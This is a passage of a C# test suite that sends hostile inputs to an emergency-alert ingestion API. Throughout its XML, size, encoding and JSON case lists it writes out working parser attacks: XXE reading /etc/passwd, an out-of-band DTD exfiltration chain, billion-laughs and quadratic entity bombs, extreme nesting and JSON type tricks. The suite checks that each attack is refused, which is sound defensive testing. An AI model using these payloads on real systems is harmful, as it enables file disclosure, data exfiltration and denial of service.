using System.Globalization;
using System.Text;

namespace Alert.Hub.Tests.Hostile;

/// <summary>
/// The attacks written by hand: XXE and entity expansion, depth and breadth, sizes at and past the limits, wrong
/// encodings, JSON tricks and CSV sheets built to hurt. Each names what it must get; the probe's rules (no 5xx, an
/// answer in time, problem+json, nothing stored on a refusal) hold for all of them too.
/// </summary>
public static class HandWritten
{
    private const string CapType = "application/cap+xml";
    private const string NativeType = "application/vnd.alert-hub.notice+xml";
    private static readonly UTF8Encoding Utf8 = new(false);

    private static string Cap(string unique) => Samples.Get("cap/evacuation-order").Text(unique);

    private static string Native(string unique) => Samples.Get("notice-xml/evacuation").Text(unique);

    private static string Json(string name, string unique) => Samples.Get("notice-json/" + name).Text(unique);

    private static byte[] B(string text) => Utf8.GetBytes(text);

    /// <summary>A DOCTYPE placed after the XML declaration.</summary>
    private static string Doctype(string xml, string doctype) => Mutations.XmlDeclaration().Replace(xml, m => m.Value + "\n" + doctype, 1);

    private static string Description(string xml, string content) =>
        System.Text.RegularExpressions.Regex.Replace(xml, "<description>[^<]*</description>", $"<description>{content}</description>");

    public static Func<HostileAnswer, string?> Within(double seconds) =>
        a => a.Took > TimeSpan.FromSeconds(seconds) ? $"took {a.Took.TotalSeconds:N1} s (limit {seconds} s)" : null;

    private static Func<HostileAnswer, string?> NoFileContents =>
        a => a.Body.Contains("root:x:0:0", StringComparison.Ordinal) || a.Body.Contains("/bin/", StringComparison.Ordinal) ? "the answer holds the contents of /etc/passwd" : null;

    /// <summary>
    /// A refusal lists every problem, but the same problem repeated by repeating the same input is amplification: the
    /// answer may not be over a hundred times the notice (past 64 KB).
    /// </summary>
    private static Func<HostileAnswer, string?> Amplification(int requestBytes) =>
        a => a.Body.Length > 65_536 && a.Body.Length > 100 * requestBytes ? $"a {a.Body.Length:N0}-character answer ({a.Status}) to a {requestBytes:N0}-byte notice" : null;

    private static Func<HostileAnswer, string?> All(params Func<HostileAnswer, string?>[] checks) => a => checks.Select(c => c(a)).FirstOrDefault(x => x is not null);

    // ---- XML --------------------------------------------------------------------------------------------------------

    public static List<HostileCase> XmlAttacks(int port, Func<string?> connected)
    {
        var noConnection = (Func<HostileAnswer, string?>)(_ => connected());
        var lol = new StringBuilder("<!DOCTYPE alert [\n<!ENTITY lol \"lol\">\n");
        for (var i = 1; i <= 9; i++)
            lol.Append(CultureInfo.InvariantCulture, $"<!ENTITY lol{i} \"{string.Concat(Enumerable.Repeat(i == 1 ? "&lol;" : $"&lol{i - 1};", 10))}\">\n");
        lol.Append("]>");
        var billion = Description(Doctype(Cap(Samples.Unique("lol")), lol.ToString()), "&lol9;");
        var quadratic = Description(Doctype(Cap(Samples.Unique("quad")), $"<!DOCTYPE alert [<!ENTITY a \"{new string('a', 100_000)}\">]>"), string.Concat(Enumerable.Repeat("&a;", 8_000)));
        var xxe = "<!DOCTYPE alert [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>";
        var circles = B(Areas(Samples.Unique("circles"), 1, _ => "<area><areaDesc>熊本</areaDesc>" + string.Concat(Enumerable.Repeat("<circle>32.80,130.71 300</circle>", 10)) + "</area>"));

        return
        [
            new("XXE: external entity file:///etc/passwd in <description>", B(Description(Doctype(Cap(Samples.Unique("xxe")), xxe), "&xxe;")), CapType)
                { Expect = Expectation.Status(400, "xml.dtd"), Check = NoFileContents },
            new("XXE: the same as application/xml (root sniffed first)", B(Description(Doctype(Cap(Samples.Unique("xxe")), xxe), "&xxe;")), "application/xml")
                { Expect = Expectation.Status(400, "xml.dtd"), Check = NoFileContents },
            new("XXE: external entity in a native notice's district name", B(Doctype(Native(Samples.Unique("xxe")), xxe.Replace("alert", "notice", StringComparison.Ordinal)).Replace("<name>出水一丁目</name>", "<name>&xxe;</name>", StringComparison.Ordinal)), NativeType)
                { Expect = Expectation.Status(400, "xml.dtd"), Check = NoFileContents },
            new("XXE: native notice as application/xml", B(Doctype(Native(Samples.Unique("xxe")), xxe.Replace("alert", "notice", StringComparison.Ordinal)).Replace("<name>出水一丁目</name>", "<name>&xxe;</name>", StringComparison.Ordinal)), "application/xml")
                { Expect = Expectation.Status(400, "xml.dtd"), Check = NoFileContents },
            new("XXE: parameter entity to file:///etc/passwd", B(Doctype(Cap(Samples.Unique("pe")), "<!DOCTYPE alert [<!ENTITY % p SYSTEM \"file:///etc/passwd\"> %p;]>")), CapType)
                { Expect = Expectation.Status(400, "xml.dtd"), Check = NoFileContents },
            new("XXE: out-of-band parameter entities to http://127.0.0.1", B(Doctype(Cap(Samples.Unique("oob")),
                    $"<!DOCTYPE alert [<!ENTITY % file SYSTEM \"file:///etc/hostname\"><!ENTITY % dtd SYSTEM \"http://127.0.0.1:{port}/evil.dtd\"> %dtd; %send;]>")), CapType)
                { Expect = Expectation.Status(400, "xml.dtd"), Check = All(noConnection, NoFileContents) },
            new("XXE: external DTD over http to 127.0.0.1 (SYSTEM)", B(Doctype(Cap(Samples.Unique("dtd")), $"<!DOCTYPE alert SYSTEM \"http://127.0.0.1:{port}/cap.dtd\">")), CapType)
                { Expect = Expectation.Status(400, "xml.dtd"), Check = noConnection },
            new("XXE: external DTD over http to 127.0.0.1 (PUBLIC)", B(Doctype(Cap(Samples.Unique("dtd")), $"<!DOCTYPE alert PUBLIC \"-//X//DTD CAP//EN\" \"http://127.0.0.1:{port}/cap.dtd\">")), CapType)
                { Expect = Expectation.Status(400, "xml.dtd"), Check = noConnection },
            new("XXE: external DTD as application/xml", B(Doctype(Native(Samples.Unique("dtd")), $"<!DOCTYPE notice SYSTEM \"http://127.0.0.1:{port}/notice.dtd\">")), "application/xml")
                { Expect = Expectation.Status(400, "xml.dtd"), Check = noConnection },
            new("xsi:schemaLocation pointing at 127.0.0.1", B(Cap(Samples.Unique("xsi")).Replace("<alert xmlns=\"urn:oasis:names:tc:emergency:cap:1.2\">",
                    $"<alert xmlns=\"urn:oasis:names:tc:emergency:cap:1.2\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:oasis:names:tc:emergency:cap:1.2 http://127.0.0.1:{port}/cap.xsd\">", StringComparison.Ordinal)), CapType)
                { Check = noConnection },
            new("xsi:noNamespaceSchemaLocation pointing at 127.0.0.1", B(Native(Samples.Unique("xsi")).Replace("<notice xmlns=\"urn:alert-hub:notice:1\"",
                    $"<notice xmlns=\"urn:alert-hub:notice:1\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:noNamespaceSchemaLocation=\"http://127.0.0.1:{port}/n.xsd\"", StringComparison.Ordinal)), NativeType)
                { Check = noConnection },
            new("XInclude of file:///etc/passwd in <description>", B(Description(Cap(Samples.Unique("xi")), "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/>")), CapType)
                { Expect = Expectation.Refused(), Check = NoFileContents },
            new("xml-stylesheet processing instruction to 127.0.0.1", B(Mutations.XmlDeclaration().Replace(Cap(Samples.Unique("pi")), m => m.Value + $"\n<?xml-stylesheet type=\"text/xsl\" href=\"http://127.0.0.1:{port}/x.xsl\"?>", 1)), CapType)
                { Check = noConnection },
            new("billion laughs (lol9)", B(billion), CapType) { Expect = Expectation.Status(400, "xml.dtd"), Check = Within(5) },
            new("billion laughs as application/xml", B(billion), "application/xml") { Expect = Expectation.Status(400, "xml.dtd"), Check = Within(5) },
            new("quadratic blowup (100 KB entity × 8,000)", B(quadratic), CapType) { Expect = Expectation.Status(400, "xml.dtd"), Check = Within(5) },
            new("internal DTD with standalone=\"yes\"", B(Doctype(Cap(Samples.Unique("sa")).Replace("encoding=\"UTF-8\"?>", "encoding=\"UTF-8\" standalone=\"yes\"?>", StringComparison.Ordinal), "<!DOCTYPE alert [<!ATTLIST alert x CDATA \"1\">]>")), CapType)
                { Expect = Expectation.Status(400, "xml.dtd") },
            new("undefined entity &nbsp;", B(Description(Cap(Samples.Unique("ent")), "a&nbsp;b")), CapType) { Expect = Expectation.Status(400, "xml.malformed") },
            new("character reference to NUL (&#0;)", B(Description(Cap(Samples.Unique("nul")), "a&#0;b")), CapType) { Expect = Expectation.Status(400, "xml.malformed") },
            new("character reference to a lone surrogate (&#xD800;)", B(Description(Cap(Samples.Unique("sur")), "a&#xD800;b")), CapType) { Expect = Expectation.Status(400, "xml.malformed") },
            new("character reference past Unicode (&#x110000;)", B(Description(Cap(Samples.Unique("big")), "a&#x110000;b")), CapType) { Expect = Expectation.Status(400, "xml.malformed") },
            new("raw control character U+0001 in text", B(Description(Cap(Samples.Unique("c0")), "a\u0001b")), CapType) { Expect = Expectation.Status(400, "xml.malformed") },
            new("XML 1.1 with a control character reference", B(Description(Cap(Samples.Unique("x11")), "a&#x1;b").Replace("version=\"1.0\"", "version=\"1.1\"", StringComparison.Ordinal)), CapType)
                { Expect = Expectation.Refused() },
            new("CDATA holding markup and a DOCTYPE", B(Description(Cap(Samples.Unique("cdata")), "<![CDATA[<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;]]>")), CapType) { Check = NoFileContents },
            new("900 KB comment (comments are ignored)", B(Description(Cap(Samples.Unique("comment")), "<!--" + new string('c', 900_000) + "-->x")), CapType) { Check = Within(10) },
            new("10,000 processing instructions", B(Description(Cap(Samples.Unique("pis")), string.Concat(Enumerable.Repeat("<?p x?>", 10_000)) + "x")), CapType) { Check = Within(10) },
            new("duplicate attribute", B(Cap(Samples.Unique("dup")).Replace("<alert xmlns=\"urn:oasis:names:tc:emergency:cap:1.2\">", "<alert xmlns=\"urn:oasis:names:tc:emergency:cap:1.2\" a=\"1\" a=\"2\">", StringComparison.Ordinal)), CapType)
                { Expect = Expectation.Status(400, "xml.malformed") },
            new("a namespace prefix never declared", B(Description(Cap(Samples.Unique("ns")), "<p:x>1</p:x>")), CapType) { Expect = Expectation.Status(400, "xml.malformed") },
            new("nesting 10,000 deep (whole document)", B("<?xml version=\"1.0\"?>\n<alert xmlns=\"urn:oasis:names:tc:emergency:cap:1.2\">" + string.Concat(Enumerable.Repeat("<a>", 10_000)) + string.Concat(Enumerable.Repeat("</a>", 10_000)) + "</alert>"), CapType)
                { Expect = Expectation.Status(400, "xml.too-deep"), Check = Within(5) },
            new("nesting 10,000 deep inside <description>", B(Description(Cap(Samples.Unique("deep")), string.Concat(Enumerable.Repeat("<a>", 10_000)) + string.Concat(Enumerable.Repeat("</a>", 10_000)))), CapType)
                { Expect = Expectation.Status(400, "xml.too-deep"), Check = Within(5) },
            new("nesting 100,000 deep, never closed", B("<alert xmlns=\"urn:oasis:names:tc:emergency:cap:1.2\">" + string.Concat(Enumerable.Repeat("<a>", 100_000))), CapType)
                { Expect = Expectation.Status(400), Check = Within(5) },
            new("nesting 10,000 deep as a native notice (application/xml)", B("<notice xmlns=\"urn:alert-hub:notice:1\" version=\"1.0\">" + string.Concat(Enumerable.Repeat("<envelope>", 10_000)) + string.Concat(Enumerable.Repeat("</envelope>", 10_000)) + "</notice>"), "application/xml")
                { Expect = Expectation.Status(400, "xml.too-deep"), Check = Within(5) },
            // <description> stands at depth 2 (alert 0, info 1): n elements inside reach depth 2 + n.
            new("an element at depth 33 (one past the limit)", B(Description(Cap(Samples.Unique("deep33")), string.Concat(Enumerable.Repeat("<a>", 31)) + string.Concat(Enumerable.Repeat("</a>", 31)))), CapType)
                { Expect = Expectation.Status(400, "xml.too-deep") },
            new("an element at depth 32 (at the limit: a schema error, not a depth one)", B(Description(Cap(Samples.Unique("deep32")), string.Concat(Enumerable.Repeat("<a>", 30)) + string.Concat(Enumerable.Repeat("</a>", 30)))), CapType)
                { Expect = Expectation.Status(422) },
            new("900 KB attribute on <alert>", B(Cap(Samples.Unique("attr")).Replace("<alert xmlns=\"urn:oasis:names:tc:emergency:cap:1.2\">", $"<alert xmlns=\"urn:oasis:names:tc:emergency:cap:1.2\" x=\"{new string('x', 900_000)}\">", StringComparison.Ordinal)), CapType)
                { Expect = Expectation.Refused(), Check = Within(10) },
            new("900 KB attribute value as the issuer code", B(Native(Samples.Unique("attr")).Replace("<issuer code=\"431001\">", $"<issuer code=\"{new string('4', 900_000)}\">", StringComparison.Ordinal)), NativeType)
                { Expect = Expectation.Refused(), Check = Within(10) },
            new("900 KB attribute value as a shelter latitude (xs:decimal)", B(Samples.Get("notice-xml/shelters").Text(Samples.Unique("lat")).Replace("lat=\"", "lat=\"" + new string('1', 900_000), StringComparison.Ordinal)), NativeType)
                { Expect = Expectation.Refused(), Check = Within(10) },
            new("latitude 10^40 (a valid xs:decimal)", B(Samples.Get("notice-xml/shelters").Text(Samples.Unique("lat")).Replace("lat=\"", "lat=\"1" + new string('0', 40), StringComparison.Ordinal)), NativeType)
                { Expect = Expectation.Refused() },
            new("900 KB element name", B(Description(Cap(Samples.Unique("name")), $"<{new string('n', 450_000)}/>")), CapType) { Expect = Expectation.Refused(), Check = Within(10) },
            new("100,000 attributes on one element", B(Cap(Samples.Unique("attrs")).Replace("<alert xmlns=\"urn:oasis:names:tc:emergency:cap:1.2\">",
                    "<alert xmlns=\"urn:oasis:names:tc:emergency:cap:1.2\"" + string.Concat(Enumerable.Range(0, 100_000).Select(i => $" a{Base36(i)}=\"\"")) + ">", StringComparison.Ordinal)), CapType)
                { Expect = Expectation.Status(400, "xml.too-many-attributes"), Check = Within(10) },
            new("33 attributes on one element (one past the limit)", B(Cap(Samples.Unique("attrs")).Replace("<alert xmlns=\"urn:oasis:names:tc:emergency:cap:1.2\">",
                    "<alert xmlns=\"urn:oasis:names:tc:emergency:cap:1.2\"" + string.Concat(Enumerable.Range(0, 32).Select(i => $" a{i}=\"\"")) + ">", StringComparison.Ordinal)), CapType)
                { Expect = Expectation.Status(400, "xml.too-many-attributes") },
            new("20,001 elements", B(Description(Cap(Samples.Unique("many")), string.Concat(Enumerable.Repeat("<a/>", 20_001)))), CapType)
                { Expect = Expectation.Status(400, "xml.too-many-elements"), Check = Within(5) },
            new("CAP with 10,000 areas", B(Areas(Samples.Unique("areas"), 10_000, i => "<area><areaDesc>熊本市中央区</areaDesc><geocode><valueName>JISX0402</valueName><value>431010</value></geocode></area>")), CapType)
                { Expect = Expectation.Refused(), Check = Within(10) },
            new("CAP with 1,000 areas", B(Areas(Samples.Unique("areas"), 1_000, i => $"<area><areaDesc>区{i}</areaDesc><geocode><valueName>JISX0402</valueName><value>4310{1 + i % 5}</value></geocode></area>")), CapType)
                { Check = Within(10) },
            // Each 300 km circle is routed and checked against the issuer's area on its own: the time and the answer grow with their number.
            new("CAP with the same 300 km circle 10 times (1.2 KB)", circles, CapType) { Check = All(Within(15), Amplification(circles.Length)) },
            new("CAP polygon of 50,000 points (a 2 km circle in 中央区)", B(Areas(Samples.Unique("poly"), 1, _ => $"<area><areaDesc>中央区</areaDesc><polygon>{Ring(50_000, 32.79, 130.74, 0.02)}</polygon></area>")), CapType)
                { Check = Within(15) },
            new("CAP polygon of 20,000 points that crosses itself", B(Areas(Samples.Unique("zigzag"), 1, _ => $"<area><areaDesc>中央区</areaDesc><polygon>{Zigzag(20_000)}</polygon></area>")), CapType)
                { Expect = Expectation.Refused("geo.polygon.invalid"), Check = Within(15) },
            new("CAP with 300 polygons", B(Areas(Samples.Unique("polys"), 1, _ => "<area><areaDesc>中央区</areaDesc>" + string.Concat(Enumerable.Repeat($"<polygon>{Ring(16, 32.79, 130.74, 0.01)}</polygon>", 300)) + "</area>")), CapType)
                { Check = Within(15) },
            new("CAP <references> with 100,000 entries", B(Cap(Samples.Unique("refs")).Replace("<msgType>Alert</msgType>", "<msgType>Update</msgType>", StringComparison.Ordinal).Replace("<scope>Public</scope>",
                    "<scope>Public</scope>\n  <references>" + string.Join(' ', Enumerable.Range(0, 100_000).Select(i => $"s,{i},2026-07-01T00:00:00+09:00")) + "</references>", StringComparison.Ordinal)), CapType)
                { Expect = Expectation.Refused(), Check = Within(10) },
        ];
    }

    // ---- sizes ------------------------------------------------------------------------------------------------------

    public static List<HostileCase> Sizes()
    {
        const int limit = 1_048_576;
        string Padded(string unique, int size)
        {
            var cap = Cap(unique);
            var pad = size - Utf8.GetByteCount(cap) - "<!---->".Length;
            return cap.Replace("</alert>", $"<!--{new string('p', pad)}--></alert>", StringComparison.Ordinal);
        }
        var json = Json("general", Samples.Unique("big"));
        var jsonPadded = json.Replace("\"text\": \"", "\"text\": \"" + new string('j', 2 * limit), StringComparison.Ordinal);
        var csv = Samples.Get("csv/status.utf8");
        var csvBig = Utf8.GetBytes("避難所ID,状況,避難者数,収容人数,更新日時\n" + string.Concat(Enumerable.Repeat("E4310000000101,開設,125,400,2026-07-01T03:00:00+09:00\n", 30_000)));
        // A valid CAP padded with a comment to exactly the limit: within every bound, bytes and characters alike.
        var accepted = (Func<HostileAnswer, string?>)(a => a.Status == 202 ? null : $"a valid body of exactly the limit was answered {a.Status}: {a.Excerpt}");
        return
        [
            new("body of 1 MiB + 1 byte", B(Padded(Samples.Unique("size"), limit + 1)), CapType) { Expect = Expectation.Status(413, "request.too-large") },
            new("body of exactly 1 MiB", B(Padded(Samples.Unique("size"), limit)), CapType) { Check = accepted },
            new("body of 1 MiB + 1 byte, chunked (no Content-Length)", B(Padded(Samples.Unique("size"), limit + 1)), CapType) { Expect = Expectation.Status(413, "request.too-large"), Chunked = true },
            new("body of exactly 1 MiB, chunked", B(Padded(Samples.Unique("size"), limit)), CapType) { Chunked = true, Check = accepted },
            new("body of 20 MiB", new byte[20 * limit], CapType) { Expect = Expectation.Status(413, "request.too-large"), Check = Within(5) },
            new("body of 20 MiB, chunked", new byte[20 * limit], CapType) { Expect = Expectation.Status(413, "request.too-large"), Chunked = true, Check = Within(5) },
            new("JSON notice of 2 MiB", B(jsonPadded), "application/json") { Expect = Expectation.Status(413, "request.too-large") },
            new("CSV sheet over 1 MiB", csvBig, "text/csv", $"sheet=shelter-status&documentId={Samples.Unique("big")}") { Expect = Expectation.Status(413, "request.too-large") },
            // Wrong twice over: the declared length is refused before the body is read, whatever its type.
            new("20 MiB sent with the wrong content type", new byte[20 * limit], "text/plain") { Expect = Expectation.Status(413, "request.too-large") },
            new("empty CAP body", [], CapType) { Expect = Expectation.Status(400, "xml.malformed") },
            new("empty native XML body", [], NativeType) { Expect = Expectation.Status(400, "xml.malformed") },
            new("empty application/xml body", [], "application/xml") { Expect = Expectation.Status(400) },
            new("empty JSON body", [], "application/json") { Expect = Expectation.Status(400, "notice.json") },
            new("empty CSV body", [], "text/csv", $"sheet=evacuation-districts&documentId={Samples.Unique("empty")}") { Expect = Expectation.Refused() },
            new("empty CSV body without its query", [], "text/csv") { Expect = Expectation.Status(400, "request.invalid") },
            new("no Content-Type at all", B(Cap(Samples.Unique("noct"))), null) { Expect = Expectation.Status(415, "request.content-type") },
            new("multipart upload of a CAP file", B("--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.xml\"\r\nContent-Type: application/cap+xml\r\n\r\n" + Cap(Samples.Unique("mp")) + "\r\n--x--\r\n"), "multipart/form-data; boundary=x")
                { Expect = Expectation.Status(415, "request.content-type") },
        ];
    }

    // ---- encodings --------------------------------------------------------------------------------------------------

    public static List<HostileCase> Encodings()
    {
        var sjis = Samples.ShiftJis;
        string Declared(string xml, string encoding) => Mutations.XmlDeclaration().Replace(xml, $"<?xml version=\"1.0\" encoding=\"{encoding}\"?>", 1);
        var districts = Samples.Get("csv/districts.sjis");
        var districtsText = districts.Text("");
        string DistrictsQuery() => $"sheet=evacuation-districts&documentId={Samples.Unique("enc")}";
        return
        [
            new("CAP: Shift_JIS declared, UTF-8 bytes", B(Declared(Cap(Samples.Unique("enc")), "Shift_JIS")), CapType),
            new("CAP: UTF-8 declared, Shift_JIS bytes", sjis.GetBytes(Cap(Samples.Unique("enc"))), CapType) { Expect = Expectation.Status(400, "xml.malformed") },
            new("CAP: Shift_JIS declared and Shift_JIS bytes", sjis.GetBytes(Declared(Cap(Samples.Unique("enc")), "Shift_JIS")), CapType),
            new("CAP: UTF-16 LE without BOM or declaration", Encoding.Unicode.GetBytes(Mutations.XmlDeclaration().Replace(Cap(Samples.Unique("enc")), "", 1).TrimStart()), CapType),
            new("CAP: UTF-16 BE without BOM, UTF-16 declared", Encoding.BigEndianUnicode.GetBytes(Declared(Cap(Samples.Unique("enc")), "UTF-16")), CapType),
            new("CAP: UTF-16 declared over UTF-8 bytes", B(Declared(Cap(Samples.Unique("enc")), "UTF-16")), CapType) { Expect = Expectation.Refused() },
            new("CAP: UTF-7 declared (+ADw- tricks)", B(Declared(Cap(Samples.Unique("enc")), "UTF-7")).Concat(B("+ADw-script+AD4-")).ToArray(), CapType) { Expect = Expectation.Refused() },
            new("CAP: unknown encoding declared", B(Declared(Cap(Samples.Unique("enc")), "x-klingon")), CapType) { Expect = Expectation.Refused() },
            new("CAP: UTF-32 with BOM", [0xFF, 0xFE, 0x00, 0x00, .. new UTF32Encoding(false, false).GetBytes(Declared(Cap(Samples.Unique("enc")), "UTF-32"))], CapType),
            new("CAP: EBCDIC (IBM037) declared and written", Encoding.GetEncoding(37).GetBytes(Declared(Cap(Samples.Unique("enc")), "IBM037").Replace("熊本市", "Kumamoto", StringComparison.Ordinal)), CapType),
            new("CAP: charset=shift_jis in Content-Type over UTF-8 bytes", B(Cap(Samples.Unique("enc"))), "application/cap+xml; charset=shift_jis"),
            new("CAP: UTF-8 BOM with Shift_JIS declared", [.. Samples.Utf8Bom, .. B(Declared(Cap(Samples.Unique("enc")), "Shift_JIS"))], CapType),
            new("CAP: UTF-16 LE BOM over UTF-8 bytes", [0xFF, 0xFE, .. B(Cap(Samples.Unique("enc")))], CapType) { Expect = Expectation.Refused() },
            new("native XML: EUC-JP bytes, EUC-JP declared", Encoding.GetEncoding(51932).GetBytes(Declared(Native(Samples.Unique("enc")), "EUC-JP")), NativeType),
            new("native XML: ISO-2022-JP bytes, UTF-8 declared", Encoding.GetEncoding(50220).GetBytes(Native(Samples.Unique("enc"))), NativeType),
            new("JSON: UTF-16 LE with BOM", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(Json("evacuation", Samples.Unique("enc")))], "application/json") { Expect = Expectation.Status(400, "notice.json") },
            new("JSON: UTF-16 BE without BOM", Encoding.BigEndianUnicode.GetBytes(Json("evacuation", Samples.Unique("enc"))), "application/json") { Expect = Expectation.Status(400, "notice.json") },
            new("JSON: Shift_JIS bytes", sjis.GetBytes(Json("evacuation", Samples.Unique("enc"))), "application/json") { Expect = Expectation.Status(400, "notice.json") },
            new("JSON: UTF-8 BOM", [.. Samples.Utf8Bom, .. B(Json("evacuation", Samples.Unique("enc")))], "application/json"),
            new("JSON: UTF-32 LE", new UTF32Encoding(false, false).GetBytes(Json("evacuation", Samples.Unique("enc"))), "application/json") { Expect = Expectation.Status(400, "notice.json") },
            new("CSV: UTF-16 LE with BOM", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(districtsText)], "text/csv", DistrictsQuery()) { Expect = Expectation.Refused("csv.encoding.invalid") },
            new("CSV: UTF-16 LE without BOM", Encoding.Unicode.GetBytes(districtsText), "text/csv", DistrictsQuery()) { Expect = Expectation.Refused() },
            new("CSV: EUC-JP", Encoding.GetEncoding(51932).GetBytes(districtsText), "text/csv", DistrictsQuery()) { Expect = Expectation.Refused() },
            new("CSV: UTF-8 then Shift_JIS in the same file", [.. B(districtsText[..(districtsText.Length / 2)]), .. sjis.GetBytes(districtsText[(districtsText.Length / 2)..])], "text/csv", DistrictsQuery()),
            new("CSV: UTF-8 with NUL bytes between cells", B(districtsText.Replace(",", ",\0", StringComparison.Ordinal)), "text/csv", DistrictsQuery()) { Expect = Expectation.Refused() },
            new("CSV: random bytes", RandomBytes(20_000, 7), "text/csv", DistrictsQuery()) { Expect = Expectation.Refused() },
            new("CSV: charset=utf-16 in Content-Type over Shift_JIS bytes", districts.Bytes, "text/csv; charset=utf-16", DistrictsQuery()),
        ];
    }

    // ---- JSON -------------------------------------------------------------------------------------------------------

    public static List<HostileCase> JsonAttacks()
    {
        const string type = "application/json";
        string Evac(string what) => Json("evacuation", Samples.Unique(what));
        string Envelope(string json, string field, string value) =>
            System.Text.RegularExpressions.Regex.Replace(json, $"\"{field}\": (\"[^\"]*\"|[0-9-]+)", $"\"{field}\": {value}", System.Text.RegularExpressions.RegexOptions.None, TimeSpan.FromSeconds(5));
        string Nested(int depth) => string.Concat(Enumerable.Repeat("{\"a\":", depth)) + "1" + new string('}', depth);
        string Districts(string unique, int count, string district) =>
            Evac(unique).Split("\"districts\": [")[0] + "\"districts\": [" + string.Join(",\n", Enumerable.Repeat(district, count)) + "]}}";
        var general = Json("general", Samples.Unique("gen"));
        string Title(string value) => Json("general", Samples.Unique("title")).Replace("\"給水所の開設\"", value, StringComparison.Ordinal);
        return
        [
            new("nesting 10,000 deep (arrays, whole body)", B(new string('[', 10_000) + new string(']', 10_000)), type) { Expect = Expectation.Status(400, "notice.json"), Check = Within(5) },
            new("nesting 100,000 deep in envelope.reason", B(Envelope(Evac("deep"), "revision", "1, \"reason\": " + Nested(100_000))), type) { Expect = Expectation.Status(400, "notice.json"), Check = Within(5) },
            new("nesting 17 deep (one past MaxDepth)", B(Envelope(Evac("deep"), "revision", "1, \"reason\": " + Nested(17))), type) { Expect = Expectation.Status(400, "notice.json") },
            new("duplicate key: issuerCode of 益城町 first, own code last", B(Envelope(Evac("dupkey"), "issuerCode", "\"434434\", \"issuerCode\": \"431001\"")), type) { Expect = Expectation.Refused() },
            new("duplicate key: documentId twice", B(Envelope(Evac("dupkey"), "documentId", $"\"{Samples.Unique("a")}\", \"documentId\": \"{Samples.Unique("b")}\"")), type) { Expect = Expectation.Refused() },
            new("duplicate key: body twice (lifeline of another town first)", B(Evac("dupbody").Replace("\"body\": {", "\"body\": {\"category\": \"disaster-hq\", \"name\": \"益城町災害対策本部\", \"state\": \"established\", \"at\": \"2026-07-01T03:00:00+09:00\"},\n  \"body\": {", StringComparison.Ordinal)), type)
                { Expect = Expectation.Refused() },
            new("revision 1e400", B(Envelope(Evac("num"), "revision", "1e400")), type) { Expect = Expectation.Status(400, "notice.json") },
            new("revision 99999999999999999999", B(Envelope(Evac("num"), "revision", "99999999999999999999")), type) { Expect = Expectation.Status(400, "notice.json") },
            new("revision 1.0", B(Envelope(Evac("num"), "revision", "1.0")), type) { Expect = Expectation.Status(400, "notice.json") },
            new("revision -0", B(Envelope(Evac("num"), "revision", "-0")), type) { Expect = Expectation.Refused() },
            new("revision of 10,000 digits", B(Envelope(Evac("num"), "revision", new string('9', 10_000))), type) { Expect = Expectation.Status(400, "notice.json") },
            new("households 1e308", B(Evac("num").Replace("\"households\": 412", "\"households\": 1e308", StringComparison.Ordinal)), type) { Expect = Expectation.Status(400, "notice.json") },
            new("households 2147483648", B(Evac("num").Replace("\"households\": 412", "\"households\": 2147483648", StringComparison.Ordinal)), type) { Expect = Expectation.Status(400, "notice.json") },
            new("latitude 1e30", B(Json("shelters", Samples.Unique("lat")).Replace("\"lat\": 32.7862305", "\"lat\": 1e30", StringComparison.Ordinal)), type) { Expect = Expectation.Refused() },
            new("latitude of 40 digits", B(Json("shelters", Samples.Unique("lat")).Replace("\"lat\": 32.7862305", "\"lat\": 1" + new string('0', 40), StringComparison.Ordinal)), type) { Expect = Expectation.Refused() },
            new("latitude 1e-400", B(Json("shelters", Samples.Unique("lat")).Replace("\"lat\": 32.7862305", "\"lat\": 1e-400", StringComparison.Ordinal)), type) { Expect = Expectation.Refused() },
            new("revision as a string", B(Envelope(Evac("type"), "revision", "\"1\"")), type) { Expect = Expectation.Status(400, "notice.json") },
            new("areas as an object", B(Evac("type").Replace("\"areas\": [", "\"areas\": {\"x\": [", StringComparison.Ordinal).Replace("    ]\n  },", "    ]}\n  },", StringComparison.Ordinal)), type) { Expect = Expectation.Status(400, "notice.json") },
            new("sent as a number", B(Envelope(Evac("type"), "sent", "5")), type) { Expect = Expectation.Status(400, "notice.json") },
            new("sent null", B(Envelope(Evac("type"), "sent", "null")), type) { Expect = Expectation.Refused() },
            new("sent true", B(Envelope(Evac("type"), "sent", "true")), type) { Expect = Expectation.Status(400, "notice.json") },
            new("mode as a number", B(Envelope(Evac("type"), "mode", "0")), type) { Expect = Expectation.Status(400, "notice.json") },
            new("envelope as a string", B("{\"envelope\": \"x\", \"body\": null}"), type) { Expect = Expectation.Status(400, "notice.json") },
            new("root an array", B("[" + Evac("root") + "]"), type) { Expect = Expectation.Status(400, "notice.json") },
            new("root a string", B("\"notice\""), type) { Expect = Expectation.Status(400, "notice.json") },
            new("root a number", B("0"), type) { Expect = Expectation.Status(400, "notice.json") },
            new("root true", B("true"), type) { Expect = Expectation.Status(400, "notice.json") },
            new("root null", B("null"), type) { Expect = Expectation.Status(400, "notice.json") },
            new("body without its category", B(Evac("cat").Replace("\"category\": \"evacuation\",", "", StringComparison.Ordinal)), type) { Expect = Expectation.Refused() },
            new("body empty object", B(System.Text.RegularExpressions.Regex.Replace(Evac("cat"), "\"body\": \\{.*\\}\\s*\\}\\s*$", "\"body\": {}}", System.Text.RegularExpressions.RegexOptions.Singleline)), type) { Expect = Expectation.Refused() },
            // JSON objects have no order: the category may come last, and the notice is read as any other.
            new("body category last", B(Evac("cat").Replace("\"category\": \"evacuation\",", "", StringComparison.Ordinal)
                .Replace("      }\n    ]\n  }\n}", "      }\n    ],\n    \"category\": \"evacuation\"\n  }\n}", StringComparison.Ordinal)), type),
            new("body category of another type (polymorphism)", B(Evac("cat").Replace("\"category\": \"evacuation\"", "\"category\": \"System.IO.FileInfo\"", StringComparison.Ordinal)), type) { Expect = Expectation.Status(400, "notice.json") },
